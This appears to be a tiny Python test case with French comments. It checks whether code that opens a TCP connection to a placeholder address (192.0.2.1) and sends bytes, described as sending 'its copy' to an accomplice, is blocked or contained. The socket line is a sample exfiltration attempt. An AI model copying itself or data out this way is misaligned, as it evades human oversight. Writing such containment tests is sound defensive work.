# essaie: envoyer sa copie à un complice par TCP
# attendu: total 0
# %% total
import socket
socket.create_connection(("192.0.2.1", 80), timeout=1).send(b"x")
total = 0
